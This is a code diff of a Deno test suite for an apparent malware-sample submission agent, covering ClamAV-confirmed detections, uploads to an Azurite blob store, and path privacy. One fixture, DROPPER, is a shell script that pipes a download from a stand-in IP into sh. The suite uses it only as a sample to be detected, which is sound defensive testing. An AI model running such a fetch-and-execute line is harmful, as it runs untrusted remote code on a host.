@@ -7,11 +7,12 @@ import type { Agent } from "../../agent/agent.ts";
 import { listEvents, type StoredEvent } from "../../store/event_queries.ts";
 import { getSample, listSamples } from "../../store/sample_queries.ts";
 import { runCli, startTestAgent, tempDir } from "../_helpers.ts";
-import { AZURITE, type Azurite, sha256Hex, startAzurite } from "../uplink/_azurite.ts";
-import { makeCertificates, TLS_PEER_MISSING } from "../uplink/_tls_peer.ts";
-import { clamscan, NO_CLAMSCAN, writeHashDatabase } from "./_clamscan.ts";
+import { type Azurite, sha256Hex, startAzurite } from "../../testing/azurite.ts";
+import { makeCertificates } from "../../testing/tls_peer.ts";
+import { clamscan, writeHashDatabase } from "../../testing/clamav.ts";
+import { requires } from "../../testing/requires.ts";
 
-const SKIP = NO_CLAMSCAN !== "" || !AZURITE;
+const NEEDS = requires("clamscan", "azurite-blob");
 
 /** A script with nothing personal in it: program code, admitted at safe. */
 const DROPPER = "#!/bin/sh\ncurl -s http://198.51.100.7/stage2 | sh\n";
@@ -46,7 +47,8 @@ async function setUp(
   await Deno.writeTextFile(files.dropper, DROPPER);
   await Deno.writeTextFile(files.letter, LETTER);
   await Deno.writeTextFile(files.second, `${LETTER}PS: or call jdoe.\n`);
-  const database = await writeHashDatabase(dir, Object.values(files));
+  const databaseDirectory = `${dir}/clamav-db`;
+  const database = await writeHashDatabase(databaseDirectory, Object.values(files));
   const log = `${dir}/clamscan.log`;
   const settings = {
     cloudService: {
@@ -54,7 +56,9 @@ async function setUp(
       diagnosticLevel: "optional",
       automaticSampleSubmissionConsent: level,
     },
-    samples: { detectionLog: log, ...samples },
+    // No clamd here: clamscan confirms each detection with the test's database.
+    securityIntelligence: { databaseDirectory },
+    samples: { detectionLog: log, clamdSocket: null, ...samples },
   };
   const managed = `${dir}/managed.json`;
   await Deno.writeTextFile(managed, JSON.stringify(settings));
@@ -126,7 +130,7 @@ function azuriteTest(
 ): void {
   Deno.test({
     name,
-    ignore: SKIP,
+    ...NEEDS,
     fn: async () => {
       await using dir = await tempDir();
       await using azurite = await startAzurite(dir.path, "samples");
@@ -304,29 +308,37 @@ azuriteTest(
       decisions.join("\n"),
     );
 
-    // Again with the level kept: the changed file and the gone one are dropped.
+    // Again with the level kept: what leaves is vitrine's copy of the bytes
+    // ClamAV confirmed, whatever becomes of the file; a copy that changed is dropped.
     await Deno.writeTextFile(setup.files.dropper, DROPPER);
     await Deno.writeTextFile(setup.files.letter, LETTER);
     await setup.rewrite((s) => s.cloudService!.enabled = false);
     await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter]);
     await Deno.writeTextFile(setup.files.dropper, "#!/bin/sh\necho replaced again\n");
     await Deno.remove(setup.files.letter);
+    const waiting = await listSamples(setup.agent.store.db, { states: ["queued"], limit: 5 });
+    const letterCopy = waiting.find((w) => w.path === setup.files.letter)!.copy!;
+    await Deno.writeTextFile(letterCopy, "tampered\n");
     await setup.rewrite((s) => s.cloudService!.enabled = true);
     await setup.agent.collectNow("sample_submission");
-    equal((await blobs(azurite)).size, 0, "a changed or gone file is never submitted");
+    const stored = await blobs(azurite);
+    deepEqual(
+      [...stored.keys()],
+      [await sha256Hex(new TextEncoder().encode(DROPPER))],
+      "the script as ClamAV confirmed it went, from vitrine's copy; not what replaced it",
+    );
     const dropped = (await records(setup.agent, "sample_decision"))
       .filter((d) => d.parts.required?.decision === "drop")
       .map((d) => String(d.parts.required?.reason));
-    equal(dropped.length, 2, dropped.join("\n"));
-    ok(dropped.some((r) => /changed since it was detected/.test(r)), dropped.join("\n"));
-    ok(dropped.some((r) => /the file is gone|does not exist/.test(r)), dropped.join("\n"));
+    equal(dropped.length, 1, dropped.join("\n"));
+    match(dropped[0]!, /vitrine's copy of it changed since it was detected/);
   },
 );
 
 Deno.test({
   name:
     "a sample store that is down: each attempt is recorded started then failed with its next time, and the signature stays out",
-  ignore: SKIP,
+  ...NEEDS,
   fn: async () => {
     await using dir = await tempDir();
     await using azurite = await startAzurite(dir.path, "samples");
@@ -338,7 +350,6 @@ Deno.test({
     const setup = await setUp(dir.path, "all", {
       ...settings,
       submissionUri: `http://127.0.0.1:${closed}/devstoreaccount1/samples`,
-      keepCopy: true,
     });
     try {
       await detectAndSubmit(setup, [setup.files.dropper]);
@@ -364,7 +375,7 @@ Deno.test({
 });
 
 azuriteTest(
-  "with a private copy, a sample ClamAV removed after detection is still submitted, and the copy goes",
+  "a sample ClamAV removed after detection is still submitted from vitrine's copy, and the copy goes",
   "all",
   async ({ setup, azurite }) => {
     // Held back (the cloud service off) until the file is gone.
@@ -380,13 +391,12 @@ azuriteTest(
     equal(sample?.state, "submitted");
     deepEqual([...Deno.readDirSync(`${setup.dataDir}/samples`)], [], "no copy is left");
   },
-  { keepCopy: true },
 );
 
 Deno.test({
   name:
     "to an https sample store: PUT <uri>/<sha256> with the bearer token, over TLS trusted through caFile",
-  ignore: NO_CLAMSCAN !== "" || TLS_PEER_MISSING.length > 0,
+  ...requires("clamscan", "openssl"),
   sanitizeResources: false,
   sanitizeOps: false,
   fn: async () => {
@@ -442,7 +452,7 @@ Deno.test({
 Deno.test({
   name:
     "at the required level no record and no listing names a flagged file's path, whatever became of it",
-  ignore: SKIP,
+  ...NEEDS,
   fn: async () => {
     await using dir = await tempDir();
     await using azurite = await startAzurite(dir.path, "samples");
@@ -465,7 +475,22 @@ Deno.test({
       await new Deno.Command("mkfifo", { args: [fifo] }).output();
       await setup.agent.collectNow("samples");
       await setup.agent.collectNow("sample_submission");
-      equal((await records(setup.agent, "sample_detection")).length, 5);
+      const detections = await records(setup.agent, "sample_detection");
+      deepEqual(
+        detections.map((d) => d.parts.required?.decision),
+        ["submit", "hold", "unconfirmed", "unconfirmed", "unconfirmed"],
+      );
+      for (const unconfirmed of detections.slice(2)) {
+        deepEqual(
+          [
+            unconfirmed.parts.required?.signature,
+            unconfirmed.parts.required?.sha256,
+            unconfirmed.parts.required?.size,
+          ],
+          [null, null, null],
+          "nothing the log claimed is kept of a detection ClamAV did not confirm",
+        );
+      }
       const types = [
         "sample_detection",
         "sample_decision",
@@ -476,13 +501,14 @@ Deno.test({
       const stored = JSON.stringify(
         await Promise.all(types.map((type) => records(setup.agent, type))),
       );
-      ok(stored.includes("Vitrine.Test.Relative"), "the records are there");
+      ok(stored.includes("Vitrine.Test.Sample-0"), "the records are there");
+      ok(!stored.includes("Vitrine.Test.Relative"), "an unconfirmed claim's signature is not kept");
       ok(!stored.includes(dir.path), `no sample record names a path: ${stored}`);
       ok(!stored.includes("relative.bin"), "nor the relative one ClamAV logged");
-      ok(!stored.includes("relative.bin"), "nor the relative one");
       const listed = await runCli(["sample", "list", "--data-dir", setup.dataDir]);
       equal(listed.code, 0, listed.stderr);
-      ok(!listed.stdout.includes(dir.path), listed.stdout);
+      // (The report names the detection log the policy sets: configuration, not a sample's path.)
+      ok(!JSON.stringify(JSON.parse(listed.stdout).samples).includes(dir.path), listed.stdout);
       const held = JSON.parse(listed.stdout).samples.find((s: { state: string }) =>
         s.state === "held"
       );
